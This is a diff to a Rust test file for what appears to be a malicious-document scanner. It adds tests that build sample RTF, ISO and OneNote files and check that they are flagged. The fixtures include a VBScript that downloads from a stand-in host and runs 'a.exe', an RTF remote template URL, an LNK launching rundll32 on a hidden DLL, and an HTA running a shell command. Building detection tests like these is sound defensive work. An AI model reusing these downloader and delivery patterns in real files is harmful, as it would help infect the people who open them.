@@ -12,8 +12,8 @@
 use watchfire_analysis::{Analysis, Engine, Settings};
 use watchfire_model::{Artifact, Hints, Origin};
 use watchfire_testkit::encode::{base64, utf16le};
-use watchfire_testkit::office;
 use watchfire_testkit::shortcut::{Link, internet_shortcut};
+use watchfire_testkit::{disc, office, rich_text};
 
 fn analyze(name: &str, bytes: &[u8]) -> Analysis {
     let engine = Engine::new(Settings::default());
@@ -313,4 +313,99 @@ fn commands_of_old_fields_are_found() {
         &[],
     );
     check("a.doc", &bytes, &[("document-active-content", 500)], &[], &[]);
+}
+
+#[test]
+fn objects_of_rich_text_are_artifacts() {
+    let package = rich_text::package("Invoice.vbs", LOADING_SCRIPT.as_bytes());
+    check(
+        "a.rtf",
+        &rich_text::document("see https://www.example.org/", &[package], true),
+        &[("document-active-content", 350), ("script-downloads-and-runs", 250)],
+        &["Invoice.vbs"],
+        &["https://www.example.org/", "http://203.0.113.66/a"],
+    );
+    let equation = [&[0; 33][..], &[10, 1, 8, 0x5a, 0x5a], &[b'a'; 60]].concat();
+    let bytes = rich_text::document("x", &[rich_text::ole1("Equation.3", &equation)], false);
+    check("a.doc", &bytes, &[("document-active-content", 750)], &["object 1"], &[]);
+    let template = b"{\\rtf1{\\*\\template http://203.0.113.66/a.dotm}text}";
+    check(
+        "a.rtf",
+        template,
+        &[("document-active-content", 500)],
+        &[],
+        &["http://203.0.113.66/a.dotm"],
+    );
+    check(
+        "letter.rtf",
+        &rich_text::document("Dear all", &[], false),
+        &[],
+        &[],
+        &[],
+    );
+}
+
+const LOADING_SCRIPT: &str = "Set o = CreateObject(\"MSXML2.XMLHTTP\")\no.Open \"GET\", \"http://203.0.113.66/a\", False\nCreateObject(\"WScript.Shell\").Run \"a.exe\"\n";
+
+#[test]
+fn discs_are_opened() {
+    let file = |name, bytes, hidden| disc::File { name, bytes, hidden };
+    let link = Link::new()
+        .to("C:\\Windows\\System32\\rundll32.exe")
+        .arguments("a.dll,Start")
+        .build();
+    let image = disc::iso(&[
+        file("Invoice of November.lnk", &link, false),
+        file("a.dll", b"MZ no program", true),
+        file("r\u{e9}sum\u{e9}.txt", b"203.0.113.66", false),
+    ]);
+    let analysis = check(
+        "Invoice.iso",
+        &image,
+        &[("archive-runnable-member", 400), ("shortcut-runs-interpreter", 200)],
+        &["Invoice of November.lnk", "a.dll", "r\u{e9}sum\u{e9}.txt"],
+        &["203.0.113.66"],
+    );
+    assert!(analysis.artifacts[0].read);
+    let hidden = disc::iso(&[file("run.js", b"WScript.Echo(1)", true)]);
+    check("a.iso", &hidden, &[("archive-runnable-member", 550)], &["run.js"], &[]);
+}
+
+#[test]
+fn files_in_notebooks_come_out_with_their_names() {
+    let page = b"<html><hta:application id=a><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>";
+    let bytes = disc::notebook(
+        "Click to view https://www.example.org/",
+        &[("Open.hta", page), ("note.txt", b"203.0.113.66")],
+    );
+    check(
+        "a.one",
+        &bytes,
+        &[("archive-runnable-member", 600)],
+        &["Open.hta", "note.txt"],
+        &["https://www.example.org/", "203.0.113.66"],
+    );
+}
+
+#[test]
+fn cut_and_flipped_samples_keep_the_promises() {
+    let names = ["shortcut", "script", "old_office", "rich_document", "disc", "notebook"];
+    let targets = watchfire_testkit::fuzz::TARGETS.iter().filter(|target| names.contains(&target.name));
+    let mut tried = 0;
+    for target in targets {
+        for seed in (target.seeds)() {
+            let step = seed.len() / 150 + 1;
+            for length in (0..seed.len()).step_by(step) {
+                (target.run)(&seed[..length]);
+                tried += 1;
+            }
+            for at in (0..seed.len() * 8).step_by(step * 8 + 3) {
+                let mut flipped = seed.clone();
+                flipped[at / 8] ^= 1 << (at % 8);
+                (target.run)(&flipped);
+                tried += 1;
+            }
+        }
+    }
+    assert!(tried > 3_000, "{tried}");
 }
